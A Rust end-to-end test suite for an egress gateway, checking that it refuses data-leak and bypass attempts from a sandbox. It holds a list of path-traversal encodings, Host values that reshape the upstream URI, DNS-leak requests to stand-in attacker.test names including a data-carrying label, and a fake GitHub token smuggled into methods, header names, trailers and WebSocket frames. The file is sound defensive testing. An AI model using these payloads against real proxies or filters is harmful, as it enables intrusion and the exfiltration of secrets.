//! Attacks on the request path from inside a bottle (issue 11): names the routes do not
//! allow must never be resolved, paths an upstream could decode differently are refused,
//! the Host never shapes the upstream URI, and the method, header and trailer names,
//! trailers and WebSocket control frames are scanned like every other surface.
#![cfg(feature = "root-tests")]

use std::{
    net::UdpSocket,
    sync::{Arc, Mutex},
    thread,
};

use egress_e2e::{
    stderr, stdout,
    world::{World, WorldSpec},
};

const ROUTES: &str = r#"log: 1
routes:
  - host: api.hostile.test
    dlp: {outbound_on_match: block}
    matches:
      - paths: [{type: prefix, value: /v1/}]
  - host: llm.hostile.test
    provider: true
  - host: "*.wild.hostile.test"
    dlp: {outbound_on_match: block}
  - host: dns-only.hostile.test
"#;

const HOSTS: [&str; 3] = ["api.hostile.test", "llm.hostile.test", "a.wild.hostile.test"];

fn token() -> String {
    format!("ghp_{}", &"Kq7Zr2Xw9Lm4Np6Ts8Vb1Yc3Hd5Fg0Jk2Lm4Np"[..36])
}

/// A DNS server on a loopback address that records every name it is asked and answers
/// NXDOMAIN: the gateway's only nameserver in `world_with_dns`.
struct CountingDns {
    addr: String,
    names: Arc<Mutex<Vec<String>>>,
}

impl CountingDns {
    fn start() -> CountingDns {
        let ip = format!("127.53.{}.1", std::process::id() % 250);
        let socket = UdpSocket::bind((ip.as_str(), 53)).expect("bind the test's DNS server on port 53");
        let names = Arc::new(Mutex::new(Vec::new()));
        let seen = names.clone();
        thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while let Ok((n, from)) = socket.recv_from(&mut buf) {
                let Some((name, end)) = question(&buf[..n]) else { continue };
                seen.lock().unwrap().push(name);
                let mut reply = buf[..end].to_vec();
                reply[2] |= 0x80; // QR
                reply[3] = 0x80 | 3; // RA, NXDOMAIN
                reply[6..12].fill(0);
                let _ = socket.send_to(&reply, from);
            }
        });
        CountingDns { addr: ip, names }
    }

    fn names(&self) -> Vec<String> {
        self.names.lock().unwrap().clone()
    }

    fn asked_about(&self, needle: &str) -> bool {
        self.names().iter().any(|n| n.contains(needle))
    }
}

/// The first question's name and where the question ends.
fn question(msg: &[u8]) -> Option<(String, usize)> {
    let mut at = 12;
    let mut labels = Vec::new();
    loop {
        let len = *msg.get(at)? as usize;
        at += 1;
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(msg.get(at..at + len)?).into_owned());
        at += len;
    }
    (msg.len() >= at + 4).then(|| (labels.join(".").to_ascii_lowercase(), at + 4))
}

fn world(test: &str) -> World {
    World::start(test, &HOSTS, ROUTES, &[])
}

fn world_with_dns(test: &str, dns: &CountingDns) -> World {
    let spec = WorldSpec { hosts: &HOSTS, routes: ROUTES, gateway_nameserver: Some(&dns.addr), ..Default::default() };
    World::start_spec(test, &spec)
}

fn assert_never_logged(w: &World, value: &str) {
    assert!(!w.env.gateway_log().contains(value), "a raw value appears in the gateway log");
}

#[test]
fn names_the_routes_do_not_allow_are_never_resolved() {
    let dns = CountingDns::start();
    let w = world_with_dns("hp-noresolve", &dns);
    let port = w.up.port();

    // The observable works: an allowed name outside `hosts:` is resolved by the gateway,
    // and its DNS server (ours) sees the query.
    let resolve = format!("dns-only.hostile.test:{port}:127.0.0.2");
    let (code, body) = w.curl(&["--resolve", &resolve, &w.url("dns-only.hostile.test", "/")]);
    assert_eq!(code, "403", "{body}");
    assert!(dns.asked_about("dns-only.hostile.test"), "the gateway's resolution is not observable: {:?}", dns.names());

    // TLS: SNI and Host name a host no route allows.
    let name = "leak-sni.attacker.test";
    let (code, body) = w.curl(&["--resolve", &format!("{name}:{port}:127.0.0.2"), &w.url(name, "/")]);
    assert_eq!(code, "403", "{body}");
    assert!(body.contains("not in the allowlist"), "{body}");
    // HTTP/2: the name in `:authority`.
    let name = "leak-h2.attacker.test";
    let (code, body) = w.curl(&["--http2", "--resolve", &format!("{name}:{port}:127.0.0.2"), &w.url(name, "/")]);
    assert_eq!(code, "403", "{body}");
    // Plain HTTP by address, the name in Host.
    let (code, body) = w.curl(&["-H", "Host: leak-host.attacker.test", "http://127.0.0.2:80/"]);
    assert_eq!(code, "403", "{body}");
    // A WebSocket upgrade.
    let (code, body) = w.curl(&[
        "-H",
        "Host: leak-ws.attacker.test",
        "-H",
        "Connection: Upgrade",
        "-H",
        "Upgrade: websocket",
        "-H",
        "Sec-WebSocket-Version: 13",
        "-H",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "http://127.0.0.2:80/ws",
    ]);
    assert_eq!(code, "403", "{body}");
    // CONNECT through a proxy variable.
    let out =
        w.run(&["curl", "-sS", "-m", "10", "-p", "-x", "http://127.0.0.2:8080", "https://leak-connect.attacker.test/"]);
    assert!(!out.status.success(), "CONNECT to a forbidden name went through");
    assert!(stderr(&out).contains("403"), "{}", stderr(&out));
    // A wildcard-looking name under an allowed suffix's sibling, and a data-carrying label.
    let (code, _) = w.curl(&["-H", "Host: mfrggzdfmztwq2lknnwg23tpobyxe43u.attacker.test", "http://127.0.0.2:80/"]);
    assert_eq!(code, "403");

    assert!(!dns.asked_about("attacker"), "a name no route allows was resolved: {:?}", dns.names());
    assert!(w.up.requests().is_empty(), "a refused request reached the upstream");
}

/// Issue 13: encoded slashes are data (npm scoped packages, GitLab project ids, GitHub
/// refs), forwarded as the client wrote them; an encoded slash does not open a prefix.
#[test]
fn encoded_slashes_are_data_and_reach_the_upstream_verbatim() {
    let w = world("hp-encslash");
    for path in [
        "/@types%2fnode",
        "/@babel%2Fcore/-/core-7.24.0.tgz",
        "/api/v4/projects/group%2Fsub%2Fproject/repository/files/src%2Fmain.rs/raw?ref=main",
        "/repos/octo/hello/git/ref/heads%2Ffeature%2Fx",
    ] {
        let before = w.up.requests().len();
        let (code, body) = w.curl(&["--path-as-is", &w.url("llm.hostile.test", path)]);
        assert_eq!(code, "200", "{path}: {body}");
        let seen = w.up.requests();
        assert_eq!(seen.len(), before + 1, "{path}");
        assert_eq!(seen.last().unwrap().path_and_query, path, "forwarded as written");
    }
    // `/v1/` is the only prefix of api.hostile.test: `/v1%2Fmodels` is not under it.
    let (code, body) = w.curl(&["--path-as-is", &w.url("api.hostile.test", "/v1%2Fmodels")]);
    assert_eq!(code, "403", "{body}");
    // `%76` is `v`: under the prefix for every upstream, so allowed.
    let (code, body) = w.curl(&["--path-as-is", &w.url("api.hostile.test", "/%761/models")]);
    assert_eq!(code, "200", "{body}");
}

#[test]
fn double_encoded_dot_and_parameter_paths_are_refused_before_routing() {
    let w = world("hp-paths");
    for path in [
        "/v1/..;/admin",
        "/v1/..;x=1/admin",
        "/v1/%2e%2e/admin",
        "/v1/%252e%252e/admin",
        "/v1/%252fadmin",
        "/v1/%c0%ae%c0%ae/admin",
        "/v1/%u002e%u002e/admin",
        "/v1/..%3b/admin",
        "/v1/%5c..%5cadmin",
        "/v1%2f..%2fadmin",
    ] {
        let (code, body) = w.curl(&["--path-as-is", &w.url("api.hostile.test", path)]);
        assert!(code == "400" || code == "403", "{path}: {code} {body}");
        assert!(body.contains("path"), "{path}: {body}");
    }
    // A raw backslash (curl would rewrite it): sent over TLS by hand.
    let py = raw_tls_request(
        "api.hostile.test",
        w.up.port(),
        "GET /v1\\\\..\\\\admin HTTP/1.1\\r\\nHost: api.hostile.test\\r\\n\\r\\n",
    );
    let out = w.run(&["python3", "-c", &py]);
    let status = stdout(&out);
    assert!(status.starts_with("HTTP/1.1 400") || status.starts_with("HTTP/1.1 403"), "{status} {}", stderr(&out));
    assert!(w.up.requests().is_empty(), "a refused path reached the upstream: {:?}", w.up.requests());

    // Ordinary escapes and a parameter in a non-dot segment still pass, verbatim.
    let (code, body) = w.curl(&[&w.url("api.hostile.test", "/v1/a%20b;v=1/c%41")]);
    assert_eq!(code, "200", "{body}");
    assert_eq!(w.up.requests().last().unwrap().path_and_query, "/v1/a%20b;v=1/c%41");
}

#[test]
fn a_host_that_would_reshape_the_upstream_uri_is_refused() {
    let w = world("hp-authority");
    // `*.wild.hostile.test` matches this as a string; as a URI it would target evil.test.
    for host in ["evil.test/.wild.hostile.test", "evil.test?.wild.hostile.test", "x@a.wild.hostile.test"] {
        let (code, body) = w.curl(&["-H", &format!("Host: {host}"), "http://127.0.0.2:80/x"]);
        assert_eq!(code, "400", "{host}: {body}");
        assert!(body.contains("not a valid host name"), "{host}: {body}");
    }
    assert!(w.up.requests().is_empty());
    // The allowed wildcard host itself works.
    let (code, body) = w.curl(&[&w.url("a.wild.hostile.test", "/ok")]);
    assert_eq!(code, "200", "{body}");
}

#[test]
fn a_secret_in_the_method_or_a_header_name_is_refused_and_never_logged() {
    let w = world("hp-names");
    let t = token();
    for host in ["api.hostile.test", "llm.hostile.test"] {
        // Block and redact routes alike: neither surface can be rewritten.
        let (code, body) = w.curl(&["-X", &t, &w.url(host, "/v1/x")]);
        assert_eq!(code, "403", "{host} method: {body}");
        assert!(body.contains("in method") && !body.contains(&t), "{body}");
        let (code, body) = w.curl(&["-H", &format!("{t}: 1"), &w.url(host, "/v1/x")]);
        assert_eq!(code, "403", "{host} header name: {body}");
        assert!(body.contains("in a header name") && !body.contains(&t[4..]), "{body}");
    }
    assert!(w.up.requests().is_empty(), "{:?}", w.up.requests());
    w.env.wait_for_log("a header name");
    assert_never_logged(&w, &t);
    assert_never_logged(&w, &t.to_ascii_lowercase());
}

#[test]
fn with_detectors_off_and_full_logging_the_method_and_header_names_are_logged_scrubbed() {
    let routes = "log: 2\nroutes:\n  - host: api.hostile.test\n    dlp: {outbound_detectors: false}\n";
    let w = World::start("hp-log2", &HOSTS, routes, &[]);
    let t = token();
    let (code, body) = w.curl(&["-X", &t, "-H", &format!("{t}: 1"), &w.url("api.hostile.test", "/v1/x")]);
    assert_eq!(code, "200", "{body}");
    w.env.wait_for_log("egress_response");
    assert_never_logged(&w, &t);
    assert_never_logged(&w, &t.to_ascii_lowercase());
}

#[test]
fn a_secret_in_request_trailers_is_refused_over_http1_and_http2() {
    let w = world("hp-trailers");
    let t = token();
    let port = w.up.port();
    for (name, value) in [("x-checksum", t.as_str()), (t.as_str(), "1")] {
        // HTTP/1.1 chunked trailers, by hand.
        let req = format!(
            "POST /v1/upload HTTP/1.1\\r\\nHost: api.hostile.test\\r\\nTransfer-Encoding: chunked\\r\\n\
             TE: trailers\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\n{name}: {value}\\r\\n\\r\\n"
        );
        let out = w.run(&["python3", "-c", &raw_tls_request("api.hostile.test", port, &req)]);
        assert!(
            stdout(&out).starts_with("HTTP/1.1 403"),
            "h1 trailer {}: {} {}",
            name.len(),
            stdout(&out),
            stderr(&out)
        );
        // HTTP/2 trailers from Node.
        let js = format!(
            "const h2 = require('http2');\n\
             const c = h2.connect('https://api.hostile.test:{port}');\n\
             const r = c.request({{':method': 'POST', ':path': '/v1/upload'}}, {{waitForTrailers: true}});\n\
             r.on('wantTrailers', () => r.sendTrailers({{'{name}': '{value}'}}));\n\
             r.on('response', h => {{ console.log(h[':status']); c.close(); }});\n\
             r.on('error', e => {{ console.log('error ' + e.code); c.close(); }});\n\
             r.end('hello');\n"
        );
        let out = w.run(&["node", "-e", &js]);
        assert_eq!(stdout(&out).trim(), "403", "h2 trailer: {}", stderr(&out));
    }
    assert!(w.up.requests().is_empty(), "{:?}", w.up.requests());
    assert_never_logged(&w, &t);
    assert_never_logged(&w, &t.to_ascii_lowercase());
}

#[test]
fn a_secret_in_websocket_ping_or_close_payload_closes_with_1008() {
    let w = world("hp-ws-control");
    let t = token();
    // Opcode 0x9 (ping) and 0x8 (close, code 1000 then the reason).
    for (opcode, payload) in [(0x9u8, t.clone()), (0x8u8, format!("\\x03\\xe8{t}"))] {
        let py = websocket_control_script("a.wild.hostile.test", w.up.port(), opcode, &payload);
        let out = w.run(&["python3", "-c", &py]);
        let got = stdout(&out);
        // Before the fix the upstream answered the ping with a pong echoing the token.
        assert!(got.contains("close 1008"), "opcode {opcode}: {got} {}", stderr(&out));
        assert!(!got.contains("pong") && !got.contains(&t), "opcode {opcode}: {got}");
    }
    w.env.wait_for_log("control frame blocked");
    assert_never_logged(&w, &t);

    // On a redact route the ping is rewritten: the upstream's pong echoes the redaction.
    let py = websocket_control_script("llm.hostile.test", w.up.port(), 0x9, &t);
    let got = stdout(&w.run(&["python3", "-c", &py]));
    assert!(got.contains("pong ********"), "{got}");
}

/// Python that sends `request` (a Python string literal body) over TLS to the gateway
/// for `host` and prints the first line of the answer.
fn raw_tls_request(host: &str, port: u16, request: &str) -> String {
    format!(
        "import socket, ssl\n\
         s = ssl.create_default_context().wrap_socket(socket.create_connection(('127.0.0.2', {port}), timeout=10), server_hostname='{host}')\n\
         s.sendall(b\"{request}\")\n\
         data = b''\n\
         while b'\\r\\n' not in data:\n\
         \x20   chunk = s.recv(4096)\n\
         \x20   if not chunk: break\n\
         \x20   data += chunk\n\
         print(data.split(b'\\r\\n')[0].decode())\n"
    )
}

/// Python: a WebSocket handshake to `/ws`, one masked control frame with `payload` (a
/// Python string literal body), then every frame received is printed (`pong <payload>`,
/// `close <code>`).
fn websocket_control_script(host: &str, port: u16, opcode: u8, payload: &str) -> String {
    format!(
        "import socket, ssl, os, struct\n\
         s = ssl.create_default_context().wrap_socket(socket.create_connection(('127.0.0.2', {port}), timeout=10), server_hostname='{host}')\n\
         s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')\n\
         buf = b''\n\
         while b'\\r\\n\\r\\n' not in buf:\n\
         \x20   buf += s.recv(4096)\n\
         head, buf = buf.split(b'\\r\\n\\r\\n', 1)\n\
         assert b' 101 ' in head.split(b'\\r\\n')[0], head\n\
         payload = b\"{payload}\"\n\
         mask = os.urandom(4)\n\
         s.sendall(bytes([0x80 | {opcode}, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))\n\
         try:\n\
         \x20   while True:\n\
         \x20       while len(buf) < 2:\n\
         \x20           chunk = s.recv(4096)\n\
         \x20           if not chunk: raise EOFError\n\
         \x20           buf += chunk\n\
         \x20       op, n = buf[0] & 0x0F, buf[1] & 0x7F\n\
         \x20       while len(buf) < 2 + n:\n\
         \x20           chunk = s.recv(4096)\n\
         \x20           if not chunk: raise EOFError\n\
         \x20           buf += chunk\n\
         \x20       data, buf = buf[2:2 + n], buf[2 + n:]\n\
         \x20       if op == 0xA: print('pong ' + data.decode(errors='replace'))\n\
         \x20       elif op == 0x8:\n\
         \x20           print('close %d' % struct.unpack('!H', data[:2])[0]); break\n\
         \x20       else: print('frame %d' % op)\n\
         except (EOFError, OSError, socket.timeout):\n\
         \x20   print('eof')\n"
    )
}
